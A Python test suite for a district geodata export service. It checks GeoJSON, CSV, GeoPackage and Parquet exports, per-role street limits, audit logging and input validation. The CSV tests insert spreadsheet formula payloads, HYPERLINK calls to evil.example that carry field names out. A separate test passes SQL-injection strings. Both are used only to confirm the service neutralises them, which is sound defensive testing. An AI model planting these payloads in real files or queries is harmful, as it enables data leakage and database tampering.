"""Exports: /api/layers, streamed GeoJSON and CSV, and the four file formats of `blockdata export`.

The tiny district of tests/etl/conftest.py with 60 requests loaded by the real ETL into the
rolled-back test transaction (the `loaded` fixture of test_ogc); every answer is compared with
SQL over the same rows.
"""

from __future__ import annotations

import csv
import io
import json
import urllib.parse
from pathlib import Path
from typing import Any

import geopandas
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
import sqlalchemy as sa
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.datastructures import MultiDict

from app import export as spooling
from app.cli import main
from app.db import make_engine
from layers import get_layer
from layers.queries import ParamError, export, slices
from tests.clock import HOURS
from tests.helpers import add_user, json_error, login, request_ids

A, B = "110102001", "110102003"


def _get(client: FlaskClient, layer: str = "service_requests", **params: Any) -> Any:
    query = urllib.parse.urlencode(params, doseq=True)
    response = client.get(f"/api/layers/{layer}/features?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response


def _geojson(client: FlaskClient, layer: str = "service_requests", **params: Any) -> Any:
    response = _get(client, layer, **params)
    assert response.mimetype == "application/geo+json"
    assert response.is_streamed
    return json.loads(response.get_data())


def _ids(client: FlaskClient, **params: Any) -> list[int]:
    return sorted(f["id"] for f in _geojson(client, **params)["features"])


def test_features_are_every_row_with_published_columns_and_provenance(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
) -> None:
    response = _get(client)
    body = json.loads(response.get_data())
    assert body["type"] == "FeatureCollection"
    features = body["features"]
    assert sorted(f["id"] for f in features) == request_ids(connection)
    layer = get_layer("service_requests")
    assert set(features[0]["properties"]) == {f.name for f in layer.published}
    assert "etl_run_id" not in features[0]["properties"]
    one = features[0]
    x, y = connection.execute(
        sa.text("select ST_X(geom), ST_Y(geom) from service_requests where id = :id"),
        {"id": one["id"]},
    ).one()
    assert one["geometry"]["coordinates"] == [round(x, 7), round(y, 7)]
    prov = body["provenance"]
    assert prov["rows"] == loaded == int(response.headers["X-Blockdata-Rows"])
    assert prov["layer"] == "service_requests" and prov["filters"] == {}
    assert prov["generated_by"] == "test-district"
    assert json.loads(response.headers["X-Blockdata-Provenance"])["rows"] == loaded


@pytest.mark.parametrize(
    ("params", "where", "values"),
    [
        ({"street": A}, "street_code = :v", {"v": A}),
        ({"community": f"{B}001"}, "community_code = :v", {"v": f"{B}001"}),
        ({"grid": f"{A}001002"}, "grid_code = :v", {"v": f"{A}001002"}),
        ({"category": "噪声扰民,停车管理"}, "category in ('噪声扰民', '停车管理')", {}),
        ({"status": "处理中"}, "status = :v", {"v": "处理中"}),
        ({"department": "x"}, "department = :v", {"v": "x"}),
        (
            {"since": "2026-11-02T00:00", "until": "2026-11-02"},
            "received_at >= '2026-11-02 00:00+08' and received_at < '2026-11-03 00:00+08'",
            {},
        ),
        (
            {"bbox": "116.30,39.90,116.3100,39.9100"},
            "geom && ST_MakeEnvelope(116.30, 39.90, 116.31, 39.91, 4326)",
            {},
        ),
        (
            {"street": B, "category": "环境卫生", "datetime": "2026-11-01T12:00:00/.."},
            "street_code = :v and category = '环境卫生' and received_at >= '2026-11-01 12:00+08'",
            {"v": B},
        ),
    ],
)
def test_filters_give_exactly_the_rows_sql_gives(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
    params: dict[str, str],
    where: str,
    values: dict[str, str],
) -> None:
    if params.get("department") == "x":  # the department the rules route noise to
        values["v"] = params["department"] = connection.execute(
            sa.text("select min(department) from service_requests where category = '噪声扰民'")
        ).scalar_one()
    expected = request_ids(connection, where, **values)
    assert 0 < len(expected) < loaded, "the filter should select some rows, not all"
    assert _ids(client, **params) == expected
    response = _get(client, f="csv", **params)
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert sorted(int(r["id"]) for r in rows) == expected
    assert int(response.headers["X-Blockdata-Rows"]) == len(expected)


def test_limit_takes_the_first_rows_by_key(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
) -> None:
    assert _ids(client, limit=7) == request_ids(connection)[:7]


def test_csv_opens_in_excel_with_chinese(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
) -> None:
    response = _get(client, f="csv")
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == loaded
    layer = get_layer("service_requests")
    assert list(rows[0]) == [*(f.name for f in layer.published), "lon", "lat"]
    db = {
        r.id: r
        for r in connection.execute(
            sa.text(
                "select id, category, callback_valid, ST_X(geom) x, ST_Y(geom) y, address "
                "from service_requests"
            )
        )
    }
    for row in rows:
        expect = db[int(row["id"])]
        assert row["category"] == expect.category
        assert row["address"] == expect.address and "西城区" in row["address"]
        assert float(row["lon"]) == pytest.approx(expect.x, abs=1e-7)
        assert float(row["lat"]) == pytest.approx(expect.y, abs=1e-7)
        assert row["callback_valid"] == (
            "" if expect.callback_valid is None else str(expect.callback_valid).lower()
        )
    labelled = _get(client, f="csv", header="label").get_data().decode("utf-8-sig")
    assert labelled.splitlines()[0].startswith("编号,数据来源,来源编号,来源渠道,受理时间")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_rows(conn: sa.Connection) -> dict[str, dict[str, str]]:
    """Per layer, the text of the rows written: one row per character of FORMULA_STARTS
    whose every free-text field starts with it; negative numbers beside them."""
    written: dict[str, dict[str, str]] = {"service_requests": {}, "enforcement_cases": {}}
    for i, start in enumerate(FORMULA_STARTS):
        text = {
            name: f'{start}HYPERLINK("http://evil.example/?{name}","{i}")'
            for name in (
                "source",
                "source_id",
                "channel",
                "category",
                "department",
                "description",
                "address",
                "coord_system",
                "status",
                "satisfaction",
                "geocode_quality",
            )
        }
        conn.execute(
            sa.text(
                f"insert into service_requests ({', '.join(text)}, received_at, street_code, geom) "
                f"values ({', '.join(':' + n for n in text)}, now(), :street, "
                "ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
            ),
            {**text, "street": A},
        )
        written["service_requests"][text["source_id"]] = text["description"]
        case = {n: text[n] for n in ("source", "source_id", "description", "address", "status")}
        conn.execute(
            sa.text(
                "insert into enforcement_cases (source, source_id, case_no, case_type, agencies, "
                "description, address, status, opened_at, street_code, geom) values (:source, "
                ":source_id, :source_id, :status, array[:status, '城管'], :description, :address, "
                ":status, now(), :street, ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
            ),
            {**case, "street": A},
        )
        written["enforcement_cases"][case["source_id"]] = case["description"]
    return written


def _numeric(column: Any) -> bool:
    return isinstance(column.type, sa.Integer | sa.Float | sa.Numeric)


def _assert_no_formula(rows: list[dict[str, str]], layer: str) -> None:
    """No cell starts like a formula, except numbers, which stay numbers."""
    published = get_layer(layer).published
    fields = {f.name: f.column for f in published} | {f.label: f.column for f in published}
    for row in rows:
        for name, cell in row.items():
            if name in ("lon", "lat") or (name in fields and _numeric(fields[name])):
                if cell:
                    float(cell)  # a number, not a text with a quote in front
                continue
            assert not cell.startswith(FORMULA_STARTS), (layer, name, cell)


@pytest.mark.parametrize("layer", ["service_requests", "enforcement_cases"])
def test_csv_cells_are_never_formulas(
    client: FlaskClient,
    connection: sa.Connection,
    district: Any,
    tmp_path: Path,
    layer: str,
) -> None:
    """Every text field of these rows starts with = + - @ tab or CR: over HTTP (both
    headings) and from `blockdata export`'s writer, each such cell gets a ' in front and
    keeps its text, while the negative coordinates stay numbers."""
    written = _formula_rows(connection)[layer]
    bodies = [
        _get(client, layer, f="csv").get_data().decode("utf-8-sig"),
        _get(client, layer, f="csv", header="label").get_data().decode("utf-8-sig"),
    ]
    export.export_file(connection, _slice(layer), "csv", tmp_path / "out.csv", "tester", NOW)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        bodies.append(fh.read())
    labels = get_layer(layer).labels
    for body, heading in zip(bodies, ("name", "label", "name"), strict=True):
        rows = list(csv.DictReader(io.StringIO(body, newline="")))
        assert len(rows) == len(FORMULA_STARTS)
        _assert_no_formula(rows, layer)
        key, text = (
            ("source_id", "description")
            if heading == "name"
            else (labels["source_id"], labels["description"])
        )
        assert all(r[key].startswith("'") and r[text].startswith("'") for r in rows)
        assert {r[key][1:]: r[text][1:] for r in rows} == written
        assert {float(r["lon"]) for r in rows} == {-0.5}


def test_polygon_layer_csv_carries_wkt(client: FlaskClient, district: Any) -> None:
    rows = list(
        csv.DictReader(io.StringIO(_get(client, "grids", f="csv").get_data().decode("utf-8-sig")))
    )
    assert len(rows) == len(district)
    shape = shapely.from_wkt(rows[0]["wkt"])
    assert shape.geom_type == "MultiPolygon" and shape.area == pytest.approx(0.01 * 0.01, rel=1e-6)


def test_every_export_is_audited(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
) -> None:
    _get(client, f="csv", street=A).get_data()
    entry = connection.execute(
        sa.text("select user_name, action, filters, rows from audit_log order by id desc limit 1")
    ).one()
    expected = len(request_ids(connection, "street_code = :s", s=A))
    assert entry.user_name == "test-district" and entry.action == "export"
    assert entry.rows == expected
    assert entry.filters == {"layer": "service_requests", "format": "csv", "filters": {"street": A}}


def test_a_commander_exports_only_their_street(
    app: Flask,
    connection: sa.Connection,
    loaded: int,
) -> None:
    commander = login(app.test_client(), add_user(connection, "c-a", "commander", A))
    own = request_ids(connection, "street_code = :s", s=A)
    assert _ids(commander) == own
    assert _ids(commander, street=B) == []
    assert _ids(commander, bbox="116.32,39.90,116.34,39.92") == []
    csv_text = _get(commander, f="csv").get_data().decode("utf-8-sig")
    assert {r["street_code"] for r in csv.DictReader(io.StringIO(csv_text))} == {A}


def test_layers_list_what_the_role_may_read(
    app: Flask, client: FlaskClient, connection: sa.Connection
) -> None:
    body = client.get("/api/layers").get_json()
    names = [layer["name"] for layer in body["layers"]]
    assert names[:3] == ["streets", "communities", "grids"] and "service_requests" in names
    requests = next(layer for layer in body["layers"] if layer["name"] == "service_requests")
    assert requests["title"] == "诉求" and requests["time_field"] == "received_at"
    assert {"street", "category", "status", "department", "bbox", "since"} <= set(
        requests["parameters"]
    )
    assert requests["links"]["csv"].endswith("/api/layers/service_requests/features?f=csv")
    planner = login(app.test_client(), add_user(connection, "p", "planner"))
    planned = [layer["name"] for layer in planner.get("/api/layers").get_json()["layers"]]
    assert "service_requests" not in planned and "renovation_projects" in planned
    assert planner.get("/api/layers/service_requests/features").status_code == 403


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("f=xlsx", 400),
        ("header=zh", 400),
        ("bbox=1,2,3", 400),
        ("bbox=116.3,39.9,116.4,abc", 400),
        ("since=yesterday", 400),
        ("limit=0", 400),
        ("limit=-5", 400),
        ("limit=99999999999", 400),
        ("colour=red", 400),
        ("street=" + "9" * 600, 400),
        ("category=%00", 400),
        ("f=csv&f=geojson", 400),
    ],
)
def test_bad_parameters_are_a_json_400(
    client: FlaskClient,
    loaded: int,
    query: str,
    status: int,
) -> None:
    message = json_error(client, f"/api/layers/service_requests/features?{query}", status)
    assert message


def test_unknown_layer_is_404_and_anonymous_is_401(app: Flask, client: FlaskClient) -> None:
    assert "nonesuch" in json_error(client, "/api/layers/nonesuch/features", 404)
    anonymous = app.test_client()
    response = anonymous.get("/api/layers/streets/features")
    assert response.status_code == 401 and response.is_json


def test_sql_in_a_filter_is_only_a_value(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
) -> None:
    evil = "环境卫生' or '1'='1"
    assert _ids(client, category=evil) == []
    assert _ids(client, category="x'); drop table service_requests; --") == []
    assert connection.execute(sa.text("select count(*) from service_requests")).scalar() == loaded


def test_a_client_that_hangs_up_leaves_the_connection_usable(
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export, "CHUNK_BYTES", 512)
    response = client.get("/api/layers/service_requests/features", buffered=False)
    first = next(iter(response.response))
    assert first.startswith(b'{"type": "FeatureCollection"')
    response.close()
    assert connection.execute(sa.text("select count(*) from service_requests")).scalar() == loaded


def test_an_export_that_would_fill_the_disk_is_a_503_and_leaves_nothing(
    app: Flask,
    client: FlaskClient,
    connection: sa.Connection,
    loaded: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The spool checks the free space as it grows: below the reserve it stops with a JSON
    503, no file is left in the spool directory and no export is audited."""
    spool = tmp_path / "spool"
    spool.mkdir()
    app.config["EXPORT_SPOOL_DIR"] = str(spool)
    monkeypatch.setattr(spooling, "SPOOL_CHECK", 1)  # look at every chunk
    monkeypatch.setattr(export, "CHUNK_BYTES", 512)
    audited = "select count(*) from audit_log where action = 'export'"
    before = connection.exec_driver_sql(audited).scalar_one()
    free = __import__("shutil").disk_usage(spool).free
    monkeypatch.setattr(spooling, "SPOOL_RESERVE", free * 2)  # more than the disk has
    response = client.get("/api/layers/service_requests/features")
    assert response.status_code == 503 and response.is_json
    assert "磁盘空间不足" in response.get_json()["message"]
    assert list(spool.iterdir()) == []
    assert connection.exec_driver_sql(audited).scalar_one() == before
    monkeypatch.setattr(spooling, "SPOOL_RESERVE", 0)
    assert _get(client).status_code == 200


def test_an_unwritable_spool_directory_falls_back_to_the_temporary_directory(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "spool").write_text("a regular file, not a directory")
    assert spooling.spool_directory(tmp_path) is None
    assert "not writable" in caplog.text
    (tmp_path / "spool").unlink()
    assert spooling.spool_directory(tmp_path) == tmp_path / "spool"


# --- files: the four formats ---------------------------------------------------------------


NOW = HOURS["noon-beijing"]  # the exports' clock


def _slice(layer: str = "service_requests", **params: str) -> slices.Slice:
    return slices.parse_slice(get_layer(layer), MultiDict(params))


@pytest.mark.parametrize("fmt", export.FORMATS)
# GDAL notes that GeoPackage times with an offset other than Z are not the standard's UTC form
# (they are the district's local times, on purpose: tests/app/test_export_times.py).
@pytest.mark.filterwarnings("ignore:Non-conformant content:RuntimeWarning")
def test_every_file_format_holds_the_slice(
    connection: sa.Connection,
    loaded: int,
    tmp_path: Path,
    fmt: str,
) -> None:
    chosen = _slice(street=B, since="2026-11-02")
    expected = request_ids(connection, "street_code = :s and received_at >= '2026-11-02+08'", s=B)
    assert 0 < len(expected) < loaded
    path = tmp_path / f"out.{fmt}"
    seen: list[int] = []
    prov = export.export_file(
        connection,
        chosen,
        fmt,
        path,
        "tester",
        NOW,
        lambda total: seen.append(total) or seen.append,
    )
    assert prov["rows"] == len(expected) == seen[0] and sum(seen[1:]) == len(expected)
    assert not list(tmp_path.glob(".*partial*")), "no partial file left behind"
    if fmt == "csv":
        frame = geopandas.GeoDataFrame(
            (rows := list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))),
            geometry=[shapely.Point(float(r["lon"]), float(r["lat"])) for r in rows],
        )
        prov_file = json.loads((tmp_path / "out.csv.provenance.json").read_text("utf-8"))
        assert prov_file["rows"] == len(expected)
        frame["id"] = frame["id"].astype(int)
    else:
        frame = geopandas.read_file(path) if fmt != "parquet" else geopandas.read_parquet(path)
    assert sorted(int(i) for i in frame["id"]) == expected
    db = connection.execute(
        sa.text(
            "select id, ST_X(geom) x, ST_Y(geom) y, received_at, category "
            "from service_requests where street_code = :s"
        ),
        {"s": B},
    )
    truth = {r.id: r for r in db}
    for _, row in frame.iterrows():
        t = truth[int(row["id"])]
        assert row.geometry.x == pytest.approx(t.x, abs=1e-7)
        assert row["category"] == t.category
    if fmt == "parquet":
        meta = pq.read_schema(path).metadata
        assert json.loads(meta[b"blockdata:provenance"])["rows"] == len(expected)
        assert json.loads(meta[b"geo"])["columns"]["geometry"]["geometry_types"] == ["Point"]
        received = frame.set_index("id").loc[expected[0], "received_at"]
        assert received == truth[expected[0]].received_at
    if fmt == "gpkg":
        info = pyogrio.read_info(path)
        assert info["geometry_type"] == "Point" and info["crs"] == "EPSG:4326"
        assert json.loads(info["layer_metadata"]["PROVENANCE"])["filters"] == {
            "street": B,
            "since": "2026-11-02",
        }
    if fmt == "geojson":
        assert json.loads(path.read_text("utf-8"))["provenance"]["generated_by"] == "tester"


@pytest.mark.filterwarnings("ignore:Non-conformant content:RuntimeWarning")  # see above
def test_mixed_geometry_layer_to_gpkg_and_parquet(
    connection: sa.Connection,
    district: Any,
    tmp_path: Path,
) -> None:
    connection.execute(
        sa.text(
            "insert into renovation_projects (source, source_id, name, street_code, geom) values "
            "('t', '1', '胡同整治', :a, ST_GeomFromText('LINESTRING(116.301 39.901, 116.31 39.91)',"
            " 4326)), ('t', '2', '立面整治', :a, ST_GeomFromText('POLYGON((116.30 39.90, "
            "116.305 39.90, 116.305 39.905, 116.30 39.90))', 4326))"
        ),
        {"a": A},
    )
    for fmt in ("gpkg", "parquet"):
        path = tmp_path / f"r.{fmt}"
        export.export_file(connection, _slice("renovation_projects"), fmt, path, None, NOW)
        frame = geopandas.read_file(path) if fmt == "gpkg" else geopandas.read_parquet(path)
        assert sorted(frame.geometry.geom_type) == ["LineString", "Polygon"]
        assert sorted(frame["name"]) == ["立面整治", "胡同整治"]


def test_bad_format_or_filter_raises_before_writing(
    connection: sa.Connection,
    loaded: int,
    tmp_path: Path,
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ParamError, match="format"):
        export.export_file(connection, _slice(), "xlsx", out / "x.xlsx", None, NOW)
    with pytest.raises(ParamError, match="colour"):
        _slice(colour="red")
    assert list(out.iterdir()) == []


def test_cli_export_writes_audits_and_respects_a_users_zone(
    committed_url: str, tmp_path: Path
) -> None:
    """`blockdata export`: the file, the audit log, `--as` a commander, bad input."""
    env = {"DATABASE_URL": committed_url}
    out = tmp_path / "streets.geojson"
    result = CliRunner().invoke(main, ["export", "streets", "-q", "-o", str(out)], env=env)
    assert result.exit_code == 0, result.output
    body = json.loads(out.read_text("utf-8"))
    assert sorted(f["id"] for f in body["features"]) == [A, B]
    assert body["provenance"]["rows"] == 2
    mine = tmp_path / "mine.csv"
    result = CliRunner().invoke(
        main, ["export", "streets", "--as", "cli-c", "-q", "-o", str(mine)], env=env
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(mine.read_text("utf-8-sig"))))
    assert [r["code"] for r in rows] == [A]
    engine = make_engine(committed_url)
    with engine.connect() as conn:
        entries = conn.execute(
            sa.text(
                "select user_name, rows, filters from audit_log where action = 'export' order by id"
            )
        ).all()
    engine.dispose()
    assert [(e.user_name.startswith("cli:"), e.rows) for e in entries] == [(True, 2), (False, 1)]
    assert entries[1].user_name == "cli-c"
    bad = CliRunner().invoke(
        main, ["export", "streets", "--bbox", "1,2", "-o", str(tmp_path / "x.csv")], env=env
    )
    assert bad.exit_code == 2 and "bbox" in bad.output and not (tmp_path / "x.csv").exists()
    unknown = CliRunner().invoke(main, ["export", "nonesuch", "-o", str(out)], env=env)
    assert unknown.exit_code == 2 and "nonesuch" in unknown.output


def test_the_count_and_the_rows_of_a_streamed_export_agree_while_a_load_runs(
    committed_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A street committed between the count and the COPY is in neither (one snapshot)."""
    from app import create_app
    from app.auth import new_token
    from layers.accounts import api_tokens, users

    engine = make_engine(committed_url)
    token, digest = new_token()
    with engine.begin() as conn:
        uid = add_user(conn, "snap-district")
        conn.execute(sa.insert(api_tokens).values(user_id=uid, token_sha256=digest))
    counted = slices.count

    def count_then_load(conn: sa.Connection, s: slices.Slice) -> int:
        n = counted(conn, s)
        with engine.begin() as other:  # another session commits a new street meanwhile
            other.execute(
                sa.text(
                    "insert into streets (code, name, geom) values ('110102099', '丙', "
                    "ST_Multi(ST_MakeEnvelope(116.34, 39.90, 116.36, 39.92, 4326)))"
                )
            )
        return n

    monkeypatch.setattr(export, "count", count_then_load)
    app = create_app({"DATABASE_URL": committed_url, "TESTING": True})
    try:
        response = app.test_client().get(
            "/api/layers/streets/features", headers={"Authorization": f"Bearer {token}"}
        )
        body = json.loads(response.get_data())
        assert body["provenance"]["rows"] == len(body["features"]) == 2
    finally:
        app.extensions["blockdata.engine"].dispose()
        with engine.begin() as conn:
            conn.execute(sa.text("delete from streets where code = '110102099'"))
            conn.execute(sa.delete(api_tokens).where(api_tokens.c.user_id == uid))
            conn.execute(sa.delete(users).where(users.c.id == uid))
        engine.dispose()
